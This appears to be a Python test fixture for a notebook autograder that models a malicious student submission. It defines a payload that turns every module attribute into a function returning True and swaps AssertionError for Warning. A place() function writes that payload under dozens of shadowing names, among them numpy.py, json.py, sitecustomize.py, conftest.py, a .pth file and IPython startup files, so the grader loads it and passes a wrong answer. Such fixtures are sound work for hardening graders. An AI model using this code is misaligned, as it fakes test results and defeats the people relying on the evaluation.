"""ko: numpy.py, json.py, autograder/, sitecustomize.py와 IPython 시작 파일을 함께 제출합니다.
en: Hands in numpy.py, json.py, autograder/, sitecustomize.py and IPython startup files.
"""

EXPECTED = {}
CELLS = {
    "square": "import importlib, sys\nsys.path.insert(0, '.')\nimport json, glob\n"
    "print(glob.glob('**', recursive=True))\n"
    "def square(x): return -1"
}
EVIL = """
import builtins
def _yes(*a, **k): return True
def __getattr__(name): return _yes
for _name in ("AssertionError",): setattr(builtins, _name, Warning)
"""
NAMES = (
    *("numpy.py", "json.py", "math.py", "socket.py", "struct.py", "ast.py", "warnings.py", "linecache.py", "re.py"),
    *("sitecustomize.py", "usercustomize.py", "IPython.py", "nbgrader.py", "nbformat.py", "traceback.py", "ps1.py"),
    *("autograder/__init__.py", "autograder/learn.py", "autograder/judge/expect.py", "autograder/learn/__init__.py"),
    *(".ipython/profile_default/startup/00-x.py", "profile_default/startup/00-x.py", "conftest.py", "x.pth"),
    *("lib/python3.11/site-packages/sitecustomize.py", "home/ipython/profile_default/startup/00-x.py"),
)


def place(folder, course):
    for name in NAMES:
        path = folder / name
        if path.parent.is_file() or path.is_dir():
            continue
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(EVIL)
